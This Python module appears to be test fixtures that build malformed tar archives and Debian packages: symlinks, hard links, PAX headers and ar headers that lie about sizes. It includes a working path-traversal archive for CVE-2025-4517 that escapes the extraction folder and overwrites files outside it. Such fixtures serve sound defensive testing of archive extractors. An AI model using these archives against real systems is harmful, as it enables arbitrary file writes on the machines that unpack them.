"""Tar archives and Debian packages with members that no honest packer would write."""

from __future__ import annotations

import io
import lzma
import tarfile
from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from collections.abc import Iterable, Sequence

EPOCH = 1_700_000_000

Entry = tuple[tarfile.TarInfo, bytes]


def entry(name: str, content: bytes = b"", **attributes: object) -> Entry:
    """Return a member; the attributes are those of `tarfile.TarInfo`."""
    info = tarfile.TarInfo(name)
    info.size, info.mtime = len(content), EPOCH
    for key, value in attributes.items():
        setattr(info, key, value)
    return info, content


def folder(name: str) -> Entry:
    return entry(name, type=tarfile.DIRTYPE, mode=0o755)


def link(name: str, target: str) -> Entry:
    return entry(name, type=tarfile.SYMTYPE, linkname=target)


def hard_link(name: str, target: str) -> Entry:
    return entry(name, type=tarfile.LNKTYPE, linkname=target)


def pax(name: str, content: bytes = b"", **headers: str) -> Entry:
    """Return a member with extended headers, which can say what the plain one cannot."""
    info, content = entry(name, content)
    info.pax_headers = headers
    return info, content


def tar_bytes(entries: Iterable[Entry]) -> bytes:
    raw = io.BytesIO()
    with tarfile.open(fileobj=raw, mode="w", format=tarfile.PAX_FORMAT) as tar:
        for info, content in entries:
            tar.addfile(info, io.BytesIO(content))
    return raw.getvalue()


def ar_bytes(parts: Sequence[tuple[str, bytes]], sizes: dict[str, str] | None = None) -> bytes:
    """Return an ar archive; a part's size can be said to be another."""
    data = b"!<arch>\n"
    for name, content in parts:
        size = (sizes or {}).get(name, str(len(content)))
        data += f"{name:<16}{0:<12}{0:<6}{0:<6}{100644:<8}{size:<10}`\n".encode() + content + b"\n" * (len(content) % 2)
    return data


def deb_bytes(entries: Iterable[Entry], *, sizes: dict[str, str] | None = None) -> bytes:
    """Return a Debian package."""
    control = lzma.compress(tar_bytes([]), preset=0)
    data = lzma.compress(tar_bytes(entries), preset=0)
    parts = [("debian-binary", b"2.0\n"), ("control.tar.xz", control), ("data.tar.xz", data)]
    return ar_bytes(parts, sizes)


def path_max_chain(top: str = "") -> list[Entry]:
    """Return CVE-2025-4517: a path so long that Python's realpath no longer sees where its links lead.

    A folder of 247 letters and a link of one letter to it, sixteen times within one another; then a link through all of
    the short ones, and sixteen times back up; then a file through that.
    """
    long, steps = "d" * 247, "abcdefghijklmnop"
    entries, path = [], top
    for step in steps:
        entries += [folder(f"{path}{long}"), link(f"{path}{step}", long)]
        path += f"{long}/"
    through = f"{'/'.join(steps)}/{'l' * 254}"
    entries += [link(f"{top}{through}", "../" * len(steps))]
    entries += [link(f"{top}escape", f"{through}/../../evil"), hard_link(f"{top}flag", f"{top}escape")]
    return [*entries, entry(f"{top}flag", b"overwritten"), entry(f"{top}escape/evil", b"written")]
